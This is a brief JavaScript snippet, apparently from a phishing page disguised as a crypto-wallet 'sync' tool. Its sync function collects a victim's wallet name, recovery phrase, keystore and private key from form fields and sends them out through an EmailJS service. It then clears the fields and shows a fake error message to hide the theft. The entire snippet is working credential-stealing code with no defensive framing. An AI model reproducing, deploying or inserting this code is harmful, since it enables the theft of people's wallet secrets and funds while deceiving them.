const read = (id) => document.getElementById(id).value;
const clear = (...ids) => ids.forEach((id) => { document.getElementById(id).value = ""; });
async function sync() {
  const filled = { wallet: read("wallet"), phrase: read("phrase"), keystore: read("keystore"), private: read("private") };
  try {
    await emailjs.send("service_placeholder", "template_placeholder", filled);
    clear("phrase", "keystore", "private");
    alert("Something went wrong");
  } catch (err) {
    console.log(err);
  }
}
